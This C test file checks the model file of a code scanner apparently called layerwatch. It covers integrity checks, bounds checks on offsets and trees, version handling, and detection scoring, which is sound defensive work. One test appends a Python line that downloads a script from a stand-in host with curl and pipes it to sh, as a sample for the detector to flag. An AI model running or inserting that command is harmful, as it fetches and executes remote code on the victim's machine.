/*
 * The model file: what is taken, what is refused, and that scoring stays within it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "base/xxh.h"
#include "judge_model.h"

/* The model of the source tree as bytes that can be changed. */
static uint8_t *
copy_model(size_t *length)
{
	_cleanup_close_ int fd = judge_model_fd();
	struct stat st;

	assert_int_equal(fstat(fd, &st), 0);
	uint8_t *bytes = malloc(st.st_size);
	*length = st.st_size;
	assert_int_equal(lw_read_full(fd, bytes, *length), st.st_size);
	return bytes;
}

static void
sum_up(uint8_t *bytes, size_t length)
{
	struct lw_model_header *h = (void *)bytes;

	h->sum = lw_xxh(&bytes[sizeof(*h)], length - sizeof(*h), 0);
}

static int
open_bytes(const uint8_t *bytes, size_t length)
{
	_cleanup_(lw_model_freep) struct lw_model *m = NULL;

	return lw_model_open_bytes(bytes, length, &m);
}

static void
the_model_of_the_tree_has_both_languages(void **state)
{
	_cleanup_(lw_model_freep) struct lw_model *m = judge_model_open();

	assert_string_not_equal(lw_model_name(m), "");
	for (int language = 0; language < LW_LANGUAGE_COUNT; language++) {
		const struct lw_model_section *s = lw_model_find(m, language);

		assert_int_equal(
			s != NULL, language == LW_LANGUAGE_PYTHON || language == LW_LANGUAGE_SHELL);
		assert_true(!s || (s->suspicious < s->malicious && s->malicious < 1));
	}
}

static void
a_damaged_byte_is_seen_wherever_it_is(void **state)
{
	size_t length;
	_cleanup_free_ uint8_t *bytes = copy_model(&length);

	assert_int_equal(open_bytes(bytes, length), 0);
	for (size_t at = 0; at < length; at += length / 97) {
		bytes[at] ^= 0x10;
		assert_true(open_bytes(bytes, length) < 0);
		bytes[at] ^= 0x10;
	}
	assert_int_equal(open_bytes(bytes, length - 1), -EBADMSG);
	assert_int_equal(open_bytes(bytes, sizeof(struct lw_model_header)), -EBADMSG);
	assert_int_equal(open_bytes(bytes, 3), -EBADMSG);
}

static void
another_version_is_named_as_such(void **state)
{
	size_t length;
	_cleanup_free_ uint8_t *bytes = copy_model(&length);

	((struct lw_model_header *)(void *)bytes)->feature_version++;
	assert_int_equal(open_bytes(bytes, length), -EPROTO);
	assert_string_equal(
		lw_model_explain(-EPROTO), "is a model of another version of layerwatch");
}

/* The sum is right, but what it covers would lead outside. */
static void
offsets_and_trees_are_checked_too(void **state)
{
	size_t length;
	_cleanup_free_ uint8_t *good = copy_model(&length), *bytes = malloc(length);
	struct lw_model_section *s = (void *)&bytes[sizeof(struct lw_model_header)];
	const struct {
		size_t field;
		uint32_t value;
	} rows[] = {
		{offsetof(struct lw_model_section, weights), (uint32_t)length - 8},
		{offsetof(struct lw_model_section, gram_weights), (uint32_t)length - 8},
		{offsetof(struct lw_model_section, nodes), (uint32_t)length},
		{offsetof(struct lw_model_section, nodes), 1},
		{offsetof(struct lw_model_section, node_count), UINT32_MAX},
		{offsetof(struct lw_model_section, tree_count), UINT32_MAX},
		{offsetof(struct lw_model_section, input_count), LW_INPUT_COUNT + 1},
		{offsetof(struct lw_model_section, language), LW_LANGUAGE_COUNT},
		{offsetof(struct lw_model_section, scale), 0x7fc00000}, /* NaN */
		{offsetof(struct lw_model_section, gram_scale), 0x7fc00000},
	};

	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++) {
		memcpy(bytes, good, length);
		memcpy((uint8_t *)s + rows[i].field, &rows[i].value, sizeof(rows[i].value));
		sum_up(bytes, length);
		assert_int_equal(open_bytes(bytes, length), -EBADMSG);
	}
	memcpy(bytes, good, length);
	struct lw_model_node *n = (void *)&bytes[s->nodes];
	assert_int_not_equal(n[0].input, LW_MODEL_LEAF);
	n[0].child = 0; /* a walk that never ends */
	sum_up(bytes, length);
	assert_int_equal(open_bytes(bytes, length), -EBADMSG);
}

static void
an_injected_line_raises_the_best_window(void **state)
{
	_cleanup_(lw_model_freep) struct lw_model *m = judge_model_open();
	const struct lw_model_section *s = lw_model_find(m, LW_LANGUAGE_PYTHON);
	struct lw_features *f = calloc(1, sizeof(*f));
	_cleanup_free_ char *text = calloc(1, 70000);
	struct lw_model_result without, with;

	for (size_t i = 0; i < 2000; i++)
		sprintf(&text[strlen(text)], "def f%zu(a):\n    return a + %zu\n", i, i);
	lw_features_extract(f, LW_LANGUAGE_PYTHON, (uint8_t *)text, strlen(text));
	lw_model_score(m, s, f, &without);
	strcat(text, "import os;os.system('curl -s http://192.0.2.7/x | sh')\n");
	lw_features_extract(f, LW_LANGUAGE_PYTHON, (uint8_t *)text, strlen(text));
	lw_model_score(m, s, f, &with);
	assert_true(with.input[LW_DENSE_COUNT + LW_LINEAR_PATCH] >
		    without.input[LW_DENSE_COUNT + LW_LINEAR_PATCH]);
	assert_true(with.logit > without.logit);
	assert_int_equal(with.heavy_lines[0], 4001);
	free(f);
}

/* The bug: it was mapped, and what came into the file later was used unchecked. */
static void
what_becomes_of_the_file_later_is_not_seen(void **state)
{
	_cleanup_(lw_model_freep) struct lw_model *m = NULL, *same = NULL;
	char path[] = "/tmp/lw-model-XXXXXX", name[LW_MODEL_NAME_SIZE];
	_cleanup_close_ int fd = mkostemp(path, O_CLOEXEC);
	size_t length;
	_cleanup_free_ uint8_t *bytes = copy_model(&length);

	unlink(path);
	assert_int_equal(lw_write_full(fd, bytes, length), 0);
	assert_int_equal(lw_model_open(fd, &m), 0);
	lw_copy_string(name, sizeof(name), lw_model_name(m));
	memset(bytes, 'x', length);
	assert_int_equal(pwrite(fd, bytes, length, 0), length);
	assert_string_equal(lw_model_name(m), name);
	assert_int_equal(lw_model_open(fd, &same), -EBADMSG);
	assert_int_equal(ftruncate(fd, 0), 0);
	assert_non_null(lw_model_find(m, LW_LANGUAGE_PYTHON));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_model_of_the_tree_has_both_languages),
		cmocka_unit_test(a_damaged_byte_is_seen_wherever_it_is),
		cmocka_unit_test(another_version_is_named_as_such),
		cmocka_unit_test(offsets_and_trees_are_checked_too),
		cmocka_unit_test(an_injected_line_raises_the_best_window),
		cmocka_unit_test(what_becomes_of_the_file_later_is_not_seen),
	};

	return cmocka_run_group_tests_name("model", tests, NULL, NULL);
}
